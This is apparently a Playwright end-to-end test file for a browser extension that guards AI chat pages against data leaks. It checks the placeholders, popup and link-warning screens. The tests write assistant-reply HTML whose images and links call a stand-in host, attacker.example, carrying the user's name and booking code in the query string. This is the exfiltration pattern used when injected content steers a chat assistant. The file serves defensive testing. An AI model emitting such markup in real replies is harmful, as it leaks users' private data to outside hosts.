import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import type { Frame, Page } from 'playwright-core';
import type { Browser as ExtensionApis } from 'webextension-polyfill';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { buildExtension, outputFolder } from '../../scripts/build-extension';
import { launchChromium, type ChromiumBrowser, type ChromiumTab } from '../../scripts/drive/chromium';
import { waitUntil } from '../../scripts/drive/guarded-browser';
import { startServer, type LoopbackServer } from '../../scripts/drive/serve';
import type { Settings } from '../../lib/model/settings';

declare const chrome: ExtensionApis;

const axeSource = await readFile(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const attacker = 'http://attacker.example';
const picture = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"></svg>';
const page = `<!doctype html><html lang="en"><meta charset="utf-8"><title>A chat</title>
  <main><h1>A chat</h1>
  <div data-message-author-role="user">My booking code is 482913, and my name is Jordan Example.</div>
  <div data-message-author-role="assistant" id="answer">Hello.</div></main>`;

/** Screens of the chat guard, as a person meets them. Clicks here are real ones. */
describe('screens of the chat guard', () => {
  let server: LoopbackServer;
  let browser: ChromiumBrowser;
  let tab: ChromiumTab;

  beforeAll(async () => {
    if (!buildExtension('chrome')) throw new Error('The extension could not be built.');
    server = await startServer(async ({ host, path }) =>
      path.endsWith('.png')
        ? { type: 'image/svg+xml', body: picture }
        : {
            type: 'text/html',
            body: host.startsWith('chat.') ? page : '<!doctype html><title>Elsewhere</title>',
          },
    );
    browser = await launchChromium({ extension: outputFolder('chrome'), onlyThrough: server });
    tab = await browser.openTab();
  });
  afterAll(async () => {
    await browser.close();
    await server.close();
  });
  beforeEach(async () => {
    await change({ chatModes: {}, allowedHosts: [] });
    await tab.goto('http://chat.mistral.ai/c/1');
    await waitUntil(
      () =>
        browser.inExtension(
          async (key) => (await chrome.storage.session.get(key))[key],
          `conversation:${tab.id}`,
        ),
      (text) => JSON.stringify(text ?? '').includes('Jordan'),
    );
  });

  const change = async (settings: Partial<Settings>) => {
    await browser.inExtension(
      (payload) => chrome.runtime.sendMessage({ name: 'change-settings', payload }),
      settings,
    );
  };
  const settings = () =>
    browser.inExtension(async () => (await chrome.storage.local.get('settings'))['settings'], null);
  const say = (html: string) =>
    tab.evaluate((markup) => {
      const answer = document.getElementById('answer');
      if (answer) answer.innerHTML = markup;
    }, html);
  const asked = (part: string) => server.seen.filter((line) => line.includes(part));
  const violations = async (frame: Frame | Page): Promise<unknown> => {
    await frame.evaluate(axeSource);
    return frame.evaluate(
      "axe.run(document, { resultTypes: ['violations'] }).then((result) => result.violations.map((one) => one.id + ': ' + one.nodes.map((node) => node.target).join(' | ')))",
    );
  };
  const placeholder = async (): Promise<Frame> => {
    const found = await waitUntil(
      async () => tab.page.frames().findIndex((frame) => frame.url().includes('/held.html')),
      (index) => index >= 0,
    );
    const frame = tab.page.frames()[found];
    if (!frame) throw new Error('No placeholder.');
    await frame.waitForSelector('.held-card button:not([disabled])');
    return frame;
  };

  it.each(['light', 'dark'] as const)('put a placeholder in place of a picture (%s)', async (colorScheme) => {
    await tab.page.emulateMedia({ colorScheme });
    await say(
      `<p>Look:</p><img alt="" width="200" height="80" src="${attacker}/p.png?d=${btoa('Jordan Example 482913')}">`,
    );
    const frame = await placeholder();
    expect(await frame.textContent('.held-card')).toContain('Jordan Example 482913');
    expect(await frame.textContent('h1')).toContain('attacker.example');
    expect(await violations(frame)).toEqual([]);
    const readable = await tab.page.evaluate(() => document.documentElement.outerHTML);
    expect(readable).not.toContain('held.html');
  });

  it('let a real click through the placeholder load the picture, and no click of the page', async () => {
    await say(`<img src="${attacker}/clicked.png?d=1"><img src="${attacker}/clicked.png?d=2">`);
    const [frame, other] = await waitUntil(
      async () => tab.page.frames().filter((one) => one.url().includes('/held.html')),
      (frames) => frames.length === 2,
    );
    if (!frame || !other) throw new Error('No placeholders.');
    await frame.waitForSelector('.held-card button:not([disabled])');
    await frame.evaluate(() => document.querySelector<HTMLElement>('.held-card button')?.click());
    // A real click that comes later goes its whole way: so would this one have.
    await other.click('text=Show once');
    await waitUntil(
      async () => asked('clicked.png'),
      (lines) => lines.length > 0,
    );
    expect(asked('clicked.png')).toHaveLength(1);
    await frame.click('text=Show once');
    await waitUntil(
      async () => asked('clicked.png'),
      (lines) => lines.length === 2,
    );
    await waitUntil(
      async () => tab.page.frames().some((one) => one.url().includes('/held.html')),
      (isThere) => !isThere,
    );
  });

  it('take no click while the page covers the placeholder', async () => {
    await say(`<img src="${attacker}/covered.png">`);
    const frame = await placeholder();
    await tab.evaluate(() => {
      const cover = document.createElement('div');
      cover.style.cssText = 'position:fixed;inset:0;z-index:9;pointer-events:none;background:white';
      document.body.append(cover);
    }, null);
    await frame.waitForSelector('.held-card button[disabled]');
  });

  it('show the attempts in the popup, change the mode, and take a permission back', async () => {
    await say(`<img src="${attacker}/listed.png?d=%3Cb%3EJordan+Example%3C%2Fb%3E+482913">`);
    await placeholder();
    const popup = await browser.openPopup(tab.id);
    await popup.resize(360, 800);
    await popup.page.waitForSelector('.chat .card');
    await popup.page.click('.chat .card summary');
    expect(await popup.page.textContent('.chat .card')).toContain('<b>Jordan Example</b> 482913');
    expect(await popup.page.locator('.chat b').count()).toBe(0);
    expect(await violations(popup.page)).toEqual([]);
    expect(await popup.page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
    await popup.page.click('text=Allow attacker.example in this chat');
    await waitUntil(
      async () => asked('listed.png'),
      (lines) => lines.length === 1,
    );
    await popup.page.click('text=No longer allow attacker.example');
    await waitUntil(settings, (now) => JSON.stringify(now).includes('"allowedHosts":[]'));
    await popup.page.selectOption('.chat-mode select', 'strict');
    await waitUntil(settings, (now) => JSON.stringify(now).includes('"le-chat":"strict"'));
    await popup.close();
  });

  it.each(['light', 'dark'] as const)(
    'show where a link leads before it is followed (%s)',
    async (colorScheme) => {
      await tab.page.emulateMedia({ colorScheme });
      await say(`<a id="go" href="${attacker}/bill?for=Jordan+Example+482913#x">bank.example</a>`);
      await tab.click('#go');
      await tab.page.waitForSelector('.leaving-buttons');
      const text = (await tab.page.textContent('.leaving')) ?? '';
      for (const part of ['attacker.example', 'bank.example', 'Jordan Example 482913'])
        expect(text).toContain(part);
      expect(await violations(tab.page)).toEqual([]);
      expect(asked('/bill')).toEqual([]);
      // By keyboard: the first stop is the way back.
      await tab.page.focus('.leaving-buttons .button');
      await tab.press('Enter');
      await tab.page.waitForURL('http://chat.mistral.ai/c/1');
    },
  );

  it('go on without parameters when asked to', async () => {
    await say(`<a id="go" href="${attacker}/bare?for=Jordan+Example+482913">Bill</a>`);
    await tab.click('#go');
    await tab.page.waitForSelector('.leaving-buttons');
    await tab.page.click('text=Go on without parameters');
    await tab.page.waitForURL(`${attacker}/bare`);
  });
});
